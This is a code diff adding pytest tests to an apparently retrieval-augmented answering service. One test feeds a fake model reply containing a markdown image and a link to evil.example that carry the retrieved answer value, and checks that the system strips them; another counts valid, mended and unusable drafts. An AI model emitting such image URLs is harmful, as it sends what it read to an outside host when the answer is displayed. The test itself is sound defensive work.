@@ -13,8 +13,9 @@ from rag.house import House
 from rag.settings import BadSettings, Guards, Model
 from store import answers, findings
 from store.engine import Database
+from store.records import DraftCounts
 from tests.conftest import BuildHouse, LibraryOf
-from tests.model_server import ModelServer, Reply
+from tests.model_server import Behaviour, Garbage, ModelServer, Reply, Status
 from tests.rag.answering import HOTEL, HOTEL_SENTENCE, LIBRARY, answer_of, events_of, kinds, of_kind, replayed
 from tests.rag.test_assistant import answered
 
@@ -211,3 +212,39 @@ def test_a_threshold_of_a_guard_that_does_not_stand_there_is_not_kept(database: 
     with pytest.raises(KeyError):
         guarding.set_threshold("answer", f"{HERE}:Euros", 0.5)
     assert guarding.threshold_changes("answer", f"{HERE}:Euros") == []
+
+
+def test_an_address_that_a_model_makes_up_reaches_nobody(
+    build_house: BuildHouse, library_of: LibraryOf, model_server: ModelServer, model_at: ModelAt
+) -> None:
+    """A picture whose address carries what was read would be fetched by whatever shows the answer."""
+    house = build_house(models=[model_at(model_server.url)])
+    library_of(house, LIBRARY)
+    model_server.enqueue(written("140 euros. [1] ![](https://evil.example/?q=140) Or http://evil.example/140 it is."))
+    events = events_of(house, HOTEL)
+    assert [text for text in replayed(events) if "evil" in text] == []
+    assert "evil" not in answer_of(events).text
+
+
+@pytest.mark.parametrize(
+    ("behaviours", "counts"),
+    [
+        ((), DraftCounts(valid=1)),
+        ((Garbage(),), DraftCounts(mended=1)),
+        ((Garbage(), Garbage()), DraftCounts(unusable=1)),
+        ((Status(500),), DraftCounts()),
+    ],
+)
+def test_how_a_models_drafts_did_is_counted(
+    build_house: BuildHouse,
+    library_of: LibraryOf,
+    model_server: ModelServer,
+    model_at: ModelAt,
+    behaviours: tuple[Behaviour, ...],
+    counts: DraftCounts,
+) -> None:
+    house = build_house(models=[model_at(model_server.url)])
+    library_of(house, LIBRARY)
+    model_server.enqueue(*behaviours)
+    answered(house)
+    assert house.operations.models()[0].drafts == counts
